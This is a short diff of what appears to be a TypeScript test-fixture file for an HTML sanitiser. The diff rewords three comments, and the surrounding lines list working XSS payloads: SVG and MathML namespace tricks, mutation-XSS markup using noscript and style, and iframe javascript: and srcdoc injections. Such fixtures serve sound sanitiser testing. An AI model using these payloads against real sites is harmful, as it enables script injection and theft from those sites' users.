@@ -3,7 +3,7 @@ import { calledName, strangerOrigin } from "./xss-names.ts"
 const call = `${calledName}(1)`
 const stranger = strangerOrigin
 
-/** Other namespaces inside HTML. */
+/** SVG and MathML namespaces inside HTML. */
 export const foreignPayloads = [
   `<svg onload=${call}>`,
   `<svg/onload=${call}>`,
@@ -36,7 +36,7 @@ export const foreignPayloads = [
   `<svg><mtext></svg><textarea><a title="</textarea><img src onerror=${call}>">`,
 ]
 
-/** Markup that means one thing to a filter and another to a browser. */
+/** Mutation XSS: markup that a filter and a browser parse differently. */
 export const mutationPayloads = [
   `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
   `<noscript><style></noscript><img src=x onerror=${call}></style></noscript>`,
@@ -112,7 +112,7 @@ export const mutationPayloads = [
   `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${call}>x</p>`,
 ]
 
-/** Elements that fetch, frame, send or lead away. */
+/** Elements that fetch, frame, submit or redirect. */
 export const embedPayloads = [
   `<iframe src="javascript:parent.${call}"></iframe>`,
   `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
